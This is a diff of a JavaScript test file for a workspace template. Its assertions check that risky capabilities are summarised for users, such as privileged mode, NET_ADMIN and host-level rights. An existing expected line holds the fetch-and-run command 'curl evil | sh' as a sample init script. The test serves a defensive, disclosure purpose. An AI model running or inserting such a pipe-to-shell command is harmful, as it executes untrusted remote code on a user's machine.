@@ -128,6 +128,10 @@ describe('a template of a workspace', () => {
       'Init script: curl evil | sh',
       'Extra public keys: ssh-ed25519 …AAAA x',
     ]);
+    assert.match(
+      reachLines({ overrides: { hostname: 'a', capAdd: ['NET_ADMIN'], privileged: true } }).join('|'),
+      /^Run and exec overrides: Has all rights on the engine’s host: [^|]*; Can change its network.*\(NET_ADMIN\); [^|]*\(a\)$/,
+    );
   });
 });
 
